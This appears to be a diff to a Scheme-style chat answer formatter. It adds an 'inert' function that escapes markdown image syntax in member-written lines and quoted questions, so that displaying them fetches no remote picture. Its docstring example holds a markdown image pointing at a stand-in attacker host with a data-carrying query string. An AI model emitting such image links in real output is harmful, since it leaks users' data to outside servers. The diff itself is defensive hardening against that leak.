@@ -9,7 +9,7 @@
     (append
       (if (answer-refusal answer)
           (list (string-append "No answer: " (answer-refusal answer) "."))
-          (map %visible (string-split (answer-text answer) "\n")))
+          (map inert (string-split (answer-text answer) "\n")))
       (map citation-line (answer-citations answer) (iota (length (answer-citations answer)) 1))
       (filter (lambda (line) line)
               (list (persona-line (answer-persona answer)) (feeling-line (answer-feeling answer))
@@ -18,6 +18,14 @@
       (list (string-append (if (answer-refusal answer) "" (confidence-text (answer-confidence answer) (answer-estimate answer)))
                            "turn " (number->string (or (answer-turn answer) 0)))))
     "\n"))
+
+(define (inert line)
+  "LINE of what members wrote, as a page or a terminal may show it: with what is invisible spelled out, and no picture that
+  would be fetched.
+
+  > (inert \"look ![x](http://evil.example/?d=1)\")
+  => \"look !\\\\[x](http://evil.example/?d=1)\""
+  (string-replace (%visible line) "![" "!\\["))
 
 (define (confidence-text confidence estimate)
   "How sure an answer is, before what follows in its line: of the sign of an ESTIMATE, where there is one; of a count, which
@@ -32,14 +40,14 @@
 (define (citation-line citation number)
   "CITATION in a line, as NUMBER: who said it, when, where, in which message, and what it answers.
 
-  > (citation-line (make-citation \"m1\" \"too hard\" \"ann\" (moment \"2026-01-31\") \"tavern\" \"m0\" \"how is it?\") 1)
+  > (citation-line (make-citation \"m1\" \"too hard\" \"ann\" (moment \"2026-01-31\") \"tavern\" \"m0\" \"how is it?\" #f) 1)
   => \"  [1] ann, 2026-01-31, #tavern, message m1, answering “how is it?” (message m0)\""
   (string-append "  [" (number->string number) "] " (%visible (or (citation-author citation) "?")) ", "
                  (day-of (citation-timestamp citation))
                  (if (citation-channel citation) (string-append ", #" (%visible (citation-channel citation))) "")
                  ", message " (citation-message-id citation)
                  (if (citation-answers citation)
-                     (string-append ", answering “" (shortened (%visible (citation-asked citation)) 80) "” (message "
+                     (string-append ", answering “" (shortened (inert (citation-asked citation)) 80) "” (message "
                                     (citation-answers citation) ")")
                      "")))
 
